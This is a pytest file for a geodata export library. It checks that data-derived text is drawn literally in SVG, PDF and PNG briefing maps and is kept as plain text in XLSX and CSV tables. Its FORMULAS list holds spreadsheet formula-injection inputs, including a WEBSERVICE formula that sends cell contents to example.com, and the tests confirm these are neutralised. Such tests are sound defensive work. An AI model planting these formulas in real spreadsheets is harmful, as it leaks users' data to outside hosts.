"""Text from data stays text in exports: briefing maps draw it literally, XLSX keeps it text."""

from __future__ import annotations

import dataclasses
import re
import warnings
import xml.etree.ElementTree as ET
import zipfile

import openpyxl
import pytest
from pypdf import PdfReader

from geodata.exports.briefing import BriefingOptions, render_briefing
from geodata.exports.tables import write_table
from geodata.exports.text import clean, csv_value, plain, xlsx_append
from geodata.importers import read_control_layer
from geodata.scenarios.engine import run_proposal
from geodata.scenarios.proposals import find_proposal
from geodata.stats import compute_stats
from tests.geodata.importers.fixtures import write_control_file

TITLE = "Ceasefire costs $5bn to $10bn"
PROPOSAL = "$\\alpha$ {x}"
SOURCE = "a$b$.geojson"
FORMULAS = ['=WEBSERVICE("http://example.com/?"&A1)', "+1+2", "-3", "@SUM(A1)", "\tx=1", "#N/A"]


@pytest.fixture(scope="module")
def data(tmp_path_factory):
    """A layer read from a file named ``a$b$.geojson``, its stats, and a proposal named in math."""
    folder = tmp_path_factory.mktemp("dollars")
    layer = read_control_layer(write_control_file(folder, "a$b$", ".geojson"))
    proposal = dataclasses.replace(find_proposal("june-2024-demand"), name=PROPOSAL)
    return layer, compute_stats(layer), run_proposal(proposal, layer)


def _svg_texts(path) -> list[str]:
    root = ET.parse(path).getroot()
    return ["".join(e.itertext()) for e in root.iter("{http://www.w3.org/2000/svg}text")]


def test_briefing_svg_draws_dollars_and_braces_literally(data, tmp_path):
    layer, stats, result = data
    assert layer.source == SOURCE
    out = render_briefing(tmp_path / "b.svg", layer, stats, result, BriefingOptions(title=TITLE))
    texts = _svg_texts(out)
    assert TITLE in texts
    assert PROPOSAL in texts  # the panel's proposal line
    # The subtitle: the date and the proposal's name, never the file's name.
    assert any(t.startswith("Control areas of") and t.endswith(PROPOSAL) for t in texts)
    assert any(t.endswith(f"Control areas: {SOURCE}") for t in texts)  # the credits


def test_briefing_pdf_text_is_literal(data, tmp_path):
    layer, stats, result = data
    out = render_briefing(tmp_path / "b.pdf", layer, stats, result, BriefingOptions(title=TITLE))
    text = PdfReader(out).pages[0].extract_text()
    for expected in (TITLE, PROPOSAL, SOURCE):
        assert expected in text, expected
    assert "5bnto10bn" not in text.replace(" ", "")  # mathtext would have eaten dollars and spaces


# Text that mathtext, fonts or XML choke on: bad TeX, backslashes, format characters,
# line breaks, right-to-left script, emoji, control characters, an undecodable file name.
HOSTILE = [
    "$\\foo{$ half $",
    "100 % {x} %s {0} \\n C:\\temp\\$x",
    "line one\nline two\r\nthree\ttabbed",
    "وقف إطلاق النار שביתת נשק",
    "Flag 🇺🇦 and 😀",
    "bell\x07 null\x00 escape\x1b end",
    "bad byte \udcff here",
]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_neither_raises_nor_disappears(data, tmp_path, text):
    layer, stats, result = data
    named = dataclasses.replace(result, proposal=dataclasses.replace(result.proposal, name=text))
    options = BriefingOptions(title=text, subtitle=text)
    with warnings.catch_warnings():
        warnings.filterwarnings("ignore", "Glyph .* missing from font", UserWarning)
        svg = render_briefing(tmp_path / "h.svg", layer, stats, named, options)
        render_briefing(tmp_path / "h.pdf", layer, stats, named, options)
        render_briefing(tmp_path / "h.png", layer, stats, named, options)
    texts = _svg_texts(svg)  # parses: no character XML cannot hold
    one_line = clean(text, one_line=True)
    assert texts.count(one_line) >= 2  # the title and the subtitle, whole
    first_line = texts[texts.index("Proposal") + 1]  # the panel's proposal, wrapped
    assert first_line and one_line.startswith(first_line)


def test_long_text_is_shortened_to_fit_the_page(data, tmp_path):
    layer, stats, result = data
    title = "A very long title " * 30
    named = dataclasses.replace(
        result, proposal=dataclasses.replace(result.proposal, name="x" * 500)
    )
    svg = render_briefing(tmp_path / "l.svg", layer, stats, named, BriefingOptions(title=title))
    texts = _svg_texts(svg)
    shown = next(t for t in texts if t.startswith("A very long title"))
    assert shown.endswith("…") and 40 < len(shown) < len(title)
    proposal_lines = [t for t in texts if re.fullmatch(r"x+…?", t)]
    assert len(proposal_lines) == 3 and proposal_lines[-1].endswith("…")  # cut, not run off


def test_plain_text_reads_back_unchanged_through_matplotlib(tmp_path):
    from matplotlib.figure import Figure

    strings = [TITLE, PROPOSAL, SOURCE, "\\$ and \\\\$", "$$", "50% of {all}"]
    figure = Figure()
    for number, text in enumerate(strings):
        figure.text(0.1, 0.1 * number, plain(text))
    figure.savefig(tmp_path / "t.svg")
    assert _svg_texts(tmp_path / "t.svg") == strings


# -- spreadsheets ------------------------------------------------------------------------------


def test_xlsx_strings_that_look_like_formulas_are_stored_as_text(data, tmp_path):
    layer, _stats, result = data
    for number, text in enumerate(FORMULAS):
        source = f"{text} bell\x07.geojson"
        named_layer = dataclasses.replace(layer, source=source)
        stats = compute_stats(named_layer)
        proposal = dataclasses.replace(result.proposal, name=text)
        named = run_proposal(proposal, named_layer)
        out = write_table(tmp_path / f"p{number}.xlsx", stats, named, credit=text)
        with zipfile.ZipFile(out) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
            xml = "".join(archive.read(n).decode() for n in sheets)
        assert "<f>" not in xml and "<f " not in xml  # no formula anywhere
        book = openpyxl.load_workbook(out)
        about = {row[0].value: row[1] for row in book["About"].iter_rows()}
        for label, expected in (("Proposal", text), ("Source", f"{text} bell.geojson")):
            cell = about[label]
            assert (cell.value, cell.data_type) == (expected, "s"), label
            assert cell.quotePrefix == (text[0] in "=+-@\t"), label
        assert about["Credits"].value.endswith(f"Control areas: {text}")  # the one credits wording
        assert about["To the occupying side, km²"].data_type == "n"  # numbers stay numbers
        regions = list(book["Regions"].iter_rows(min_row=2, values_only=True))
        assert all(isinstance(value, int | float) for row in regions for value in row[2:])


def test_xlsx_append_keeps_numbers_and_plain_text_as_they_are():
    sheet = openpyxl.Workbook().active
    cells = xlsx_append(sheet, ["Kyiv", -3.5, 0, None, "=1+1", "a\x00b"])
    assert [c.value for c in cells] == ["Kyiv", -3.5, 0, None, "=1+1", "ab"]
    assert [c.data_type for c in cells] == ["s", "n", "n", "n", "s", "s"]
    assert [bool(c.quotePrefix) for c in cells] == [False, False, False, False, True, False]


@pytest.mark.parametrize("text", [*FORMULAS[:-1], "\rx"])
def test_csv_values_that_look_like_formulas_get_a_quote(text):
    assert csv_value(text) == "'" + text
    assert csv_value("Kyiv") == "Kyiv" and csv_value(-3.5) == -3.5 and csv_value("#N/A") == "#N/A"
